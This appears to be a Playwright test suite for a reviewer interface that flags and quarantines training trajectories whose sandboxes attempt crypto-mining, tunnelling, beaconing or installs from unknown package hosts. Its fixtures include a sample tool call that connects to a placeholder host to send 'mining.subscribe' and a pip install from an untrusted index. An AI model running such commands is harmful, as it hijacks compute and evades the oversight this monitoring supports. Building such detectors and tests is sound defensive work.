"""What a reviewer does: hears of an alert, follows it to the turn, rules; and how the pages look meanwhile."""

import re
import time
from collections.abc import Callable
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import APIResponse, Page, Route, expect

from tests.browser.conftest import PASSWORD, Engine, Web, sign_in
from tests.browser.story import Event, Story
from tests.browser.test_pictures import FAINT_TEXTS, PICTURES
from webapp.accounts.models import Membership, Role, User
from webapp.experiments.sample import Sample
from webapp.runs.models import Run
from webapp.runs.services import launch_experiment
from webapp.security.models import Alert, Quarantine, ReviewDecision

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.django_db(transaction=True)]
PATIENCE_MS = 30_000
WIDTHS = {1440: 900, 390: 844}
SANDBOX = "sandbox-7f3a91"

_FINDINGS = [
    ("mining-stratum", "critical", "Safety & Security", "T1496", "Mining protocol on the wire", "203.0.113.7:4444",
     ['tcp 203.0.113.7:4444 began with {"id":1,"method":"mining.subscribe"}', "denied: no rule allows it"], True),
    ("tunnel-service", "critical", "Controllability", "T1572", "Tunnel service", "abc.ngrok.example",
     ["dns A abc.ngrok.example", "3 attempts within 20 s"], True),
    ("beacon", "warning", "Controllability", "T1071", "Regular attempts", "198.51.100.23:8443",
     ["8 denied attempts 30 s apart, within 4 %"], False),
    ("install-from-nowhere", "warning", "Safety & Security", "T1195", "Package from an unknown host",
     "pip install --index-url http://198.51.100.9/simple fastmath", ["pip install --index-url http://198.51.100.9/simple"],
     False),
]  # fmt: skip


class Trouble(Story):
    """A run whose sandboxes misbehave in the second step."""

    def record(self, seq: int, **changes: Any) -> dict[str, Any]:
        attempt = {"sandbox": SANDBOX, "sequence": seq, "at": self.now, "protocol": "tcp", "port": 4444}
        attempt["address"] = "203.0.113.7"
        decision = {"allowed": False, "policy": "python-work", "reason": "no-rule"}
        return {
            "seq": seq, "last_at": self.now, "label": "python",
            **changes, "attempt": attempt | changes.get("attempt", {}),
            "decision": decision | changes.get("decision", {}),
        }  # fmt: skip

    def trouble(self, trajectory: str, turn: int = 0) -> list[Event]:
        origin = {"trajectory": trajectory, "turn": turn}
        allowed = {"allowed": True, "rule": "packages", "reason": "allowed-by-rule"}
        pypi = {"address": "203.0.113.80", "port": 443, "sni": "pypi.org", "name": "pypi.org", "stage": "opening"}
        records = [
            self.record(1, attempt={"protocol": "dns", "name": "pypi.org", "query_type": "A"}, decision=allowed),
            self.record(2, attempt=pypi, decision=allowed, opening_up="FgMBAgABAAH8AwM="),
            self.record(3, phase="traffic", attempt=pypi | {"sequence": 2}, decision=allowed, bytes_up=2048,
                        bytes_down=734_003, packets_up=9, ended="closed"),
            self.record(4, attempt={"protocol": "dns", "name": "pool." + "x" * 60 + ".example", "query_type": "A"}),
            self.record(5, opening_up="eyJpZCI6MSwibWV0aG9kIjoibWluaW5nLnN1YnNjcmliZSJ9", ended="denied"),
            self.record(6, count=240, spread={"addresses": 240, "ports": 1, "names": 0},
                        attempt={"address": "198.51.100.1", "port": 22}),
        ]  # fmt: skip
        return [self.event("egress", sandbox=SANDBOX, origin=origin, records=records)]

    def alarm(self, number: int, trajectory: str, turn: int = 0) -> Event:
        rule, severity, category, attack, title, subject, evidence, quarantined = _FINDINGS[number]
        finding = {
            "rule": rule, "severity": severity, "category": category, "attack": attack, "title": title,
            "sandbox": SANDBOX, "at": self.now, "label": "python", "subject": subject, "evidence": evidence,
            "seq": 5 if number == 0 else None,
        }  # fmt: skip
        origin = {"trajectory": trajectory, "turn": turn}
        return self.event(
            "alert", id=f"{SANDBOX}/{number + 1}", origin=origin, finding=finding, quarantined=quarantined
        )

    def alike(self, count: int, *, rule: int, first: int = 0) -> list[Event]:
        """Alerts of the same rule about the same destination, each of another trajectory."""
        events = []
        for number in range(first, first + count):
            alarm = self.alarm(rule, f"train-2-{number}")
            events.append(alarm | {"id": f"{SANDBOX}/{rule}-{number}"})
        return events

    def scattered(self, count: int) -> list[Event]:
        """Alerts of the same rule, each about a destination of its own."""
        events = self.alike(count, rule=0, first=1000)
        for number, event in enumerate(events):
            event["finding"] |= {"subject": f"203.0.113.7:{number}"}
        return events

    def turn_of_alert(self, trajectory: str, turn: int, **more: str) -> Event:
        code = 'import socket\ns = socket.create_connection(("203.0.113.7", 4444))\ns.send(b"mining.subscribe")'
        text = {"wrote": f"<tool>{code}</tool>", "call": code, **more}
        return self.event("turn", origin={"trajectory": trajectory, "turn": turn}, text=text)

    def settled(self, trajectory: str) -> Event:
        return self.event(
            "settled", step=3, trajectory=trajectory, outcome="trained-on", updates_since=1, advantage=0.7, reward=0.9,
            group_mean=0.4, group_size=8, rewards_differ=True,
        )  # fmt: skip

    def frozen(self, trajectory: str) -> Event:
        _, prompt, member = trajectory.split("-")
        steps_before, group = divmod(int(prompt), self.groups)
        stored = self.trajectory("train", steps_before + 1, group, int(member))
        code = 'import socket\ns = socket.create_connection(("203.0.113.7", 4444))\ns.send(b"mining.subscribe")'
        stored["segments"][0]["turns"] = [
            self.turn("<user>41 * 17<assistant>", "<tool>print(41 * 17)</tool>", 1, "print(41 * 17)", "697"),
            self.turn("<output>697</output><assistant>", "<tool>import socket ...</tool>", 1, code, "", "frozen"),
        ]
        return self.stored(stored | {"stop_reason": "frozen", "success": False, "reward": 0.0, "answer": None,
                                 "masked_because": "quarantined", "alerts": [f"{SANDBOX}/1"]})  # fmt: skip


@pytest.fixture
def rita(sample: Sample) -> User:
    user = User.objects.create_user("rita@example.org", PASSWORD, name="Rita Reviewer")
    Membership.objects.create(team=sample.team, user=user, role=Role.REVIEWER)
    return user


@pytest.fixture
def trouble(web: Web, sample: Sample) -> tuple[Engine, Trouble, Run]:
    """A run after its first step; nothing is alarming yet."""
    run = launch_experiment(sample.experiment, acting_user=sample.owner)
    story = Trouble(steps=30, groups=2, group_size=4, begin_at=time.time() - 60)
    engine = Engine(web, run, story)
    engine.emit(story.beginning())
    engine.emit(story.step(1), 1)
    return engine, story, run


def pictures(page: Page, name: str) -> list[str]:
    """One per width and theme; returns what is wrong with them."""
    faults = []
    for theme in ("light", "dark"):
        page.emulate_media(color_scheme=theme)
        for width, height in WIDTHS.items():
            page.set_viewport_size({"width": width, "height": height})
            page.wait_for_timeout(150)
            page.screenshot(path=PICTURES / f"security-{name}-{width}-{theme}.png", full_page=width == 390)
            if page.evaluate("document.documentElement.scrollWidth > innerWidth"):
                faults.append(f"{name} is wider than {width} px")
            faults += [f"{name} {theme} {width}: {fault}" for fault in page.evaluate(FAINT_TEXTS)[:3]]
    page.emulate_media(color_scheme="light")
    page.set_viewport_size({"width": 1440, "height": 900})
    return faults


def test_a_reviewer_follows_an_alert_to_its_turn_and_rules(
    web: Web, rita: User, trouble: Any, tab: Callable[..., Page], complaints: list[str]
) -> None:
    engine, story, run = trouble
    PICTURES.mkdir(parents=True, exist_ok=True)
    page = tab()
    sign_in(page, web, rita)
    bell = page.locator(".nav [data-open-alerts]")
    expect(page.locator("html")).to_have_attribute("data-alerts", "live", timeout=PATIENCE_MS)
    expect(bell).to_be_hidden()
    page.goto(f"{web.url}/alerts/")
    expect(page.get_by_text("No open alerts")).to_be_visible()
    faults = pictures(page, "inbox-empty")

    held = "train-2-1"
    engine.emit([*story.trouble(held, 1), story.alarm(0, held, 1)], 1)
    expect(bell).to_have_text("1", timeout=PATIENCE_MS)
    expect(page.locator("tr[data-alert]")).to_have_count(1, timeout=PATIENCE_MS)
    engine.emit([story.alarm(1, "train-3-0"), story.alarm(2, "train-3-2"), story.alarm(3, "train-3-3")], 1)
    expect(page.locator("tr[data-alert]")).to_have_count(4, timeout=PATIENCE_MS)
    engine.emit([story.frozen(held)], 2)
    faults += pictures(page, "inbox")

    # By keyboard to the oldest alert, and from it to the turn.
    for _ in range(4):
        page.keyboard.press("j")
    expect(page.locator("tr.is-selected")).to_contain_text("Mining protocol")
    page.keyboard.press("k")
    expect(page.locator("tr.is-selected")).to_contain_text("Tunnel service")
    page.keyboard.press("j")
    page.keyboard.press("Enter")
    page.wait_for_url(f"{web.url}/alerts/*/")
    expect(page.locator(".evidence")).to_contain_text("mining.subscribe")
    expect(page.locator("tr[aria-current]")).to_contain_text("203.0.113.7:4444")
    faults += pictures(page, "alert")
    page.locator("body").press("Enter")
    page.wait_for_url(f"**/trajectories/{held}/#turn-2")
    expect(page.locator("#turn-2 .told")).to_contain_text("244 attempts to reach something: 242 denied, 2 allowed")
    expect(page.locator("#turn-2")).to_be_in_viewport()
    page.evaluate("scrollTo(0, 0)")
    faults += pictures(page, "trajectory")

    # The question is asked before anything happens, and "not now" means not now.
    page.keyboard.press("1")
    expect(page.locator("#review-title")).to_have_text(f"Mark {held} benign?")
    expect(page.locator("#review-dialog")).to_contain_text("if at most 8 updates happened")
    page.screenshot(path=PICTURES / "security-review-decision-1440-light.png")
    page.get_by_role("button", name="Not now").click()
    assert Quarantine.objects.get(trajectory_id=held).state == "pending"
    page.get_by_label("Note").first.fill("A tutorial asked for it.")
    page.locator("h1").click()
    page.keyboard.press("1")
    page.keyboard.press("Enter")
    expect(page.locator(".notices")).to_contain_text("is found benign (review decision 1)", timeout=PATIENCE_MS)
    expect(page.locator(".quarantine-status")).to_contain_text("Found benign")
    expect(page.locator(".quarantine .note")).to_have_text("A tutorial asked for it.")
    expect(bell).to_have_text("3")
    assert ReviewDecision.objects.get().note == "A tutorial asked for it."

    # A change of mind is a second review decision; the engine hears of the newest.
    page.get_by_role("button", name="Malicious").click()
    expect(page.locator(".quarantine-status")).to_contain_text("Found malicious", timeout=PATIENCE_MS)
    expect(page.locator(".history li")).to_have_count(2)
    faults += pictures(page, "trajectory-decided")

    page.goto(f"{web.url}/runs/{run.id}/?tab=security")
    expect(page.locator("#security .figures")).to_contain_text("244", timeout=PATIENCE_MS)
    engine.emit(
        [story.event("egress", sandbox="sandbox-2", records=[story.record(1, attempt={"sandbox": "sandbox-2"})])], 2
    )
    expect(page.locator("#security .figure").first).to_contain_text("245", timeout=PATIENCE_MS)
    page.get_by_label("Decision").select_option("allowed")
    expect(page.locator("#security .records tbody tr")).to_have_count(3, timeout=PATIENCE_MS)
    expect(page).to_have_url(f"{web.url}/runs/{run.id}/?tab=security&decision=allowed")
    page.reload()
    expect(page.get_by_label("Decision")).to_have_value("allowed", timeout=PATIENCE_MS)
    expect(page.locator("#security .records tbody tr")).to_have_count(3)
    page.get_by_role("link", name="Clear").click()
    expect(page.locator("#security .records tbody tr")).to_have_count(7, timeout=PATIENCE_MS)
    faults += pictures(page, "run")
    page.goto(f"{web.url}/alerts/rules/#mining-stratum")
    faults += pictures(page, "rules")
    page.goto(f"{web.url}/runs/{run.id}/trajectories/?quarantine=quarantined")
    expect(page.locator("#trajectories tbody tr")).to_have_count(1)
    expect(page.locator("#trajectories tbody tr")).to_contain_text("malicious")
    faults += pictures(page, "trajectories")
    assert faults == []
    assert complaints == []


def test_the_inbox_rules_by_keyboard_and_another_reviewer_sees_it(
    web: Web, rita: User, sample: Sample, trouble: Any, tab: Callable[..., Page], complaints: list[str]
) -> None:
    engine, story, _ = trouble
    engine.emit([story.alarm(0, "train-2-1"), story.alarm(1, "train-3-0")], 1)
    hers, his = tab(), tab()
    sign_in(hers, web, rita)
    sign_in(his, web, sample.owner)
    for page in (hers, his):
        page.goto(f"{web.url}/alerts/")
        expect(page.locator("tr[data-alert]")).to_have_count(2)
        expect(page.locator("html")).to_have_attribute("data-alerts", "live", timeout=PATIENCE_MS)
    hers.keyboard.press("j")
    hers.keyboard.press("2")
    expect(hers.locator("#review-title")).to_have_text("Mark train-3-0 malicious?")
    hers.keyboard.press("Enter")
    expect(hers.locator(".notices")).to_contain_text("is found malicious", timeout=PATIENCE_MS)
    for page in (hers, his):
        expect(page.locator("tr[data-alert]")).to_have_count(1, timeout=PATIENCE_MS)
        expect(page.locator(".nav [data-open-alerts]")).to_have_text("1", timeout=PATIENCE_MS)
    his.keyboard.press("?")
    expect(his.locator("#keys-dialog")).to_contain_text("Mark it malicious")
    his.keyboard.press("Escape")

    # The keys of those who may only look decide nothing.
    vera = User.objects.create_user("vera@example.org", PASSWORD)
    Membership.objects.create(team=sample.team, user=vera, role=Role.VIEWER)
    theirs, posted = tab(), list[str]()
    sign_in(theirs, web, vera)
    theirs.on("request", lambda request: posted.append(request.url) if request.method == "POST" else None)
    theirs.goto(f"{web.url}/alerts/")
    expect(theirs.locator("html")).to_have_attribute("data-alerts", "live", timeout=PATIENCE_MS)
    for key in "ja":
        theirs.keyboard.press(key)
    theirs.keyboard.press("Enter")
    theirs.wait_for_url("**/alerts/*/")
    assert posted == []
    assert Alert.objects.filter(state="open").count() == 1

    # "All that match" is said of one list: another filter takes it back, and so does a list of one page.
    engine.emit([*story.scattered(51), story.alarm(2, "train-3-1")], 1)
    marked, matching = his.locator("[data-marked]"), his.locator('[name="matching"]')
    severity = his.get_by_label("Severity")
    for wanted, shown in (("critical", 50), ("warning", 1)):
        expect(matching).to_be_visible(timeout=PATIENCE_MS)
        matching.check()
        expect(marked).to_have_text(re.compile(r"All \d+ that match are marked\."))
        severity.select_option(wanted)
        expect(his.locator("tr[data-alert]")).to_have_count(shown, timeout=PATIENCE_MS)
        expect(marked).to_have_text("Mark rows to decide about all their alerts at once.")
        expect(matching).not_to_be_checked()
    assert complaints == []


LISTS = {
    "inbox": ("/alerts/", "/alerts/", "tr[data-alert]"),
    "tab": (
        "/runs/{run}/?tab=security",
        "/runs/{run}/security/",
        "#security [aria-label='Alerts of this run'] tbody tr",
    ),
}
"""The page, the address that its list is fetched from, and the rows of its alerts."""
COUNT_ANSWERS = """() => {
  window.answered = 0;
  const count = ({ detail }) => detail.xhr.addEventListener("loadend", () => (window.answered += 1));
  document.body.addEventListener("htmx:beforeSend", count);
}"""


class HeldList:
    """The next answer with a list, which the server has given and the page has not got."""

    def __init__(self, page: Page, path: str) -> None:
        self._page, self._held = page, list[tuple[Route, APIResponse]]()
        page.route(lambda url: urlsplit(url).path == path, self._hold, times=1)

    def _hold(self, route: Route) -> None:
        self._held.append((route, route.fetch()))

    def wait(self) -> None:
        deadline = time.monotonic() + PATIENCE_MS / 1000
        while not self._held:
            assert time.monotonic() < deadline, "nobody asked for the list"
            self._page.wait_for_timeout(10)

    def let_go(self) -> None:
        [(route, response)] = self._held
        route.fulfill(response=response)


@pytest.mark.parametrize("place", LISTS)
def test_what_comes_while_a_list_of_alerts_is_fetched_is_fetched_as_well(
    place: str, web: Web, rita: User, trouble: Any, tab: Callable[..., Page], complaints: list[str]
) -> None:
    engine, story, run = trouble
    address, path, rows = (text.format(run=run.id) for text in LISTS[place])
    engine.emit([story.alarm(0, "train-2-1")], 1)
    page = tab()
    sign_in(page, web, rita)
    page.clock.install()
    page.goto(web.url + address)
    expect(page.locator(rows)).to_have_count(1, timeout=PATIENCE_MS)
    expect(page.locator("html")).to_have_attribute("data-alerts", "live", timeout=PATIENCE_MS)
    held = HeldList(page, path)
    engine.emit([story.alarm(1, "train-3-0")], 1)
    held.wait()
    engine.emit([story.alarm(2, "train-3-2")], 1)
    expect(page.locator(".nav [data-open-alerts]")).to_have_text("3", timeout=PATIENCE_MS)
    page.clock.run_for(2000)  # longer than the page gathers what comes
    held.let_go()
    expect(page.locator(rows)).to_have_count(3, timeout=PATIENCE_MS)
    assert complaints == []


FILTERS = {
    "inbox": ("tr[data-alert]", ("Severity", "warning"), 2, ("Rule", "beacon"), 1),
    "tab": ("#security .records tbody tr", ("Decision", "denied"), 3, ("Protocol", "dns"), 1),
}
"""What is listed, a filter, how many it leaves, another, and how many both leave."""


@pytest.mark.parametrize("place", FILTERS)
def test_a_list_that_was_asked_for_before_a_filter_does_not_come_after_it(
    place: str, web: Web, rita: User, trouble: Any, tab: Callable[..., Page], complaints: list[str]
) -> None:
    engine, story, run = trouble
    address, path, _ = (text.format(run=run.id) for text in LISTS[place])
    listed, (label, chosen), left, (other_label, other), left_of_both = FILTERS[place]
    engine.emit([*story.trouble("train-2-1", 1), *(story.alarm(number, "train-2-1", 1) for number in range(3))], 1)
    page = tab()
    sign_in(page, web, rita)
    page.goto(web.url + address)
    expect(page.locator(listed).first).to_be_visible(timeout=PATIENCE_MS)
    expect(page.locator("html")).to_have_attribute("data-alerts", "live", timeout=PATIENCE_MS)

    # The page asked by itself.
    page.evaluate(COUNT_ANSWERS)
    held = HeldList(page, path)
    engine.emit([story.alarm(3, "train-3-0")], 1)
    held.wait()
    page.get_by_label(label).select_option(chosen)
    expect(page.locator(listed)).to_have_count(left, timeout=PATIENCE_MS)
    held.let_go()
    page.wait_for_function("() => window.answered === 2", timeout=PATIENCE_MS)
    expect(page.locator(listed)).to_have_count(left)
    expect(page.get_by_label(label)).to_have_value(chosen)

    # Somebody chose a filter, and another one before the list had come.
    page.get_by_label(label).select_option("")
    expect(page.locator(listed)).not_to_have_count(left, timeout=PATIENCE_MS)
    held = HeldList(page, path)
    page.get_by_label(label).select_option(chosen)
    held.wait()
    page.get_by_label(other_label).select_option(other)
    expect(page.locator(listed)).to_have_count(left_of_both, timeout=PATIENCE_MS)
    expect(page.get_by_label(label)).to_have_value(chosen)
    # htmx complains of the request that it ended itself, for the other filter.
    assert [text for text in complaints if not text.startswith(("htmx:afterRequest", "htmx:sendAbort"))] == []


def inbox_of_four_groups(page: Page, web: Web, reviewer: User, engine: Engine, story: Any) -> Page:
    """Each of two alerts that are alike; the page's scripts are there."""
    engine.emit([alert for rule in range(4) for alert in story.alike(2, rule=rule, first=10 * rule)], 1)
    sign_in(page, web, reviewer)
    page.goto(f"{web.url}/alerts/")
    expect(page.locator("tr[data-alert]")).to_have_count(4, timeout=PATIENCE_MS)
    expect(page.locator("html")).to_have_attribute("data-alerts", "live", timeout=PATIENCE_MS)
    return page


def test_all_groups_that_were_open_are_filled_when_the_list_is_fetched_again(
    web: Web, rita: User, trouble: Any, tab: Callable[..., Page], complaints: list[str]
) -> None:
    engine, story, run = trouble
    page = inbox_of_four_groups(tab(), web, rita, engine, story)
    inside = page.locator(".alike-row .main-link")
    for opened, link in enumerate(page.locator("[data-expands]").all(), start=1):
        link.click()
        expect(inside).to_have_count(2 * opened, timeout=PATIENCE_MS)
    engine.emit(story.alike(1, rule=0, first=50), 1)
    expect(inside).to_have_count(9, timeout=PATIENCE_MS)
    assert complaints == []


def test_the_inbox_is_heard_after_a_way_back_from_a_filter(
    web: Web, rita: User, trouble: Any, tab: Callable[..., Page], complaints: list[str]
) -> None:
    engine, story, run = trouble
    page = inbox_of_four_groups(tab(), web, rita, engine, story)
    rows = page.locator("tr[data-alert]")
    page.get_by_label("Severity").select_option("warning")
    expect(rows).to_have_count(2, timeout=PATIENCE_MS)
    page.go_back()
    expect(rows).to_have_count(4, timeout=PATIENCE_MS)
    # The page is another one; its keys are there once its scripts are.
    expect(page.locator("html")).to_have_attribute("data-alerts", "live", timeout=PATIENCE_MS)
    page.keyboard.press("j")
    expect(rows.first).to_have_class(re.compile("is-selected"), timeout=PATIENCE_MS)
    page.keyboard.press("x")
    expect(page.locator("[data-marked]")).to_have_text("1 row marked: 2 alerts.")
    engine.emit(story.alike(1, rule=0, first=50), 1)
    expect(page.locator(".nav [data-open-alerts]")).to_have_text("9", timeout=PATIENCE_MS)
    expect(page.locator("[data-marked]")).to_have_text(re.compile("1 row marked: [23] alerts."), timeout=PATIENCE_MS)
    assert complaints == []


def test_alike_alerts_are_marked_and_decided_together(
    web: Web, rita: User, trouble: Any, tab: Callable[..., Page], complaints: list[str]
) -> None:
    engine, story, run = trouble
    engine.emit(story.alike(120, rule=0) + story.alike(3, rule=1, first=200) + story.alike(1, rule=3, first=300), 1)
    page = tab()
    sign_in(page, web, rita)
    page.goto(f"{web.url}/alerts/")
    rows = page.locator("tr[data-alert]")
    expect(rows).to_have_count(3)
    expect(page.locator("html")).to_have_attribute("data-alerts", "live", timeout=PATIENCE_MS)
    faults = pictures(page, "groups")

    # A group opens to its alerts, and stays open and marked when the list is fetched again.
    for _ in range(3):
        page.keyboard.press("j")
    expect(page.locator("tr.is-selected")).to_contain_text("Mining protocol")
    page.keyboard.press("o")
    expect(page.locator(".alike-row .main-link")).to_have_count(50, timeout=PATIENCE_MS)
    page.keyboard.press("x")
    expect(page.locator("[data-marked]")).to_have_text("1 row marked: 120 alerts.")
    engine.emit(story.alike(1, rule=2, first=400), 1)
    expect(rows).to_have_count(4, timeout=PATIENCE_MS)
    expect(page.locator("[data-marked]")).to_have_text("1 row marked: 120 alerts.")
    expect(page.locator(".alike-row .main-link")).to_have_count(50, timeout=PATIENCE_MS)
    faults += pictures(page, "groups-open")

    page.keyboard.press("1")
    expect(page.locator("#review-title")).to_have_text("Mark 120 alerts benign?")
    page.get_by_role("button", name="Not now").click()
    assert Quarantine.objects.filter(state="pending").count() == 123
    page.keyboard.press("1")
    page.keyboard.press("Enter")
    expect(page.locator(".notices")).to_contain_text("120 trajectories found benign", timeout=PATIENCE_MS)
    expect(rows).to_have_count(3, timeout=PATIENCE_MS)
    expect(page.locator(".nav [data-open-alerts]")).to_have_text("5", timeout=PATIENCE_MS)

    # With the shift key a mark reaches from the last one to this one; the button asks before it acts.
    expect(page.locator("html")).to_have_attribute("data-alerts", "live", timeout=PATIENCE_MS)
    marks = page.locator('input[name="like"]')
    marks.first.click()
    marks.last.click(modifiers=["Shift"])
    expect(page.locator("[data-marked]")).to_have_text("3 rows marked: 5 alerts.")
    page.get_by_role("button", name="Malicious").first.click()
    expect(page.locator("#review-title")).to_have_text("Mark 5 alerts malicious?")
    page.locator("#review-confirm").click()
    expect(page.locator(".notices")).to_contain_text("3 trajectories found malicious; 5 alerts decided")
    expect(page.get_by_text("No open alerts")).to_be_visible()
    assert Quarantine.objects.filter(state="malicious").count() == 3
    # The page is another one after the decision; its keys are there once its scripts are.
    expect(page.locator("html")).to_have_attribute("data-alerts", "live", timeout=PATIENCE_MS)
    page.keyboard.press("?")
    for shown in ("Mark the alert", "Show all alike", "Mark it benign", "Acknowledge"):
        expect(page.locator("#keys-dialog")).to_contain_text(shown)
    assert faults == []
    assert complaints == []


def test_the_page_of_an_alert_shows_its_turn_at_once_and_what_the_review_decision_did(
    web: Web, rita: User, trouble: Any, tab: Callable[..., Page], complaints: list[str]
) -> None:
    engine, story, run = trouble
    held = "train-2-1"
    engine.emit([story.turn_of_alert(held, 1), *story.trouble(held, 1), story.alarm(0, held, 1)], 1)
    page = tab()
    sign_in(page, web, rita)
    page.goto(f"{web.url}/alerts/{Alert.objects.get().id}/")
    expect(page.locator("#turn-card")).to_contain_text("under way")
    faults = pictures(page, "alert-fresh")
    engine.emit([story.turn_of_alert(held, 1, output="stopped by alert mining-stratum", error_class="frozen")], 1)
    expect(page.locator("#turn-card")).to_contain_text("stopped by alert mining-stratum", timeout=PATIENCE_MS)
    page.keyboard.press("1")
    page.keyboard.press("Enter")
    expect(page.locator("[data-effect]")).to_contain_text("takes effect in the run's next step", timeout=PATIENCE_MS)
    engine.emit([story.frozen(held), story.settled(held)], 3)
    page.reload()
    expect(page.locator("[data-effect]")).to_contain_text("Trained on at step 3, advantage +0.7")
    faults += pictures(page, "alert-settled")
    assert faults == []
    assert complaints == []
